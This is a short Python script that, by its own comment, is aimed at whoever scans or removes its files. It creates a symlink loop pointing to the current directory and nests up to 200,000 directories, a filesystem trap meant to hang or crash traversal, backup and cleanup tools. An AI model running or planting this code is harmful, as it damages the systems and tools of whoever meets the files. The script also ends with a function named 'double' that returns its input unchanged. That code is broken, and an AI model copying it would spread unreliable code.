# tries: whoever looks through its files or takes them away: folders in folders, a hundred thousand of them, and links in circles
import os

os.symlink(".", "again")
try:
    for number in range(200_000):
        os.mkdir("d")
        os.chdir("d")
except OSError:
    pass


def double(x):
    return x
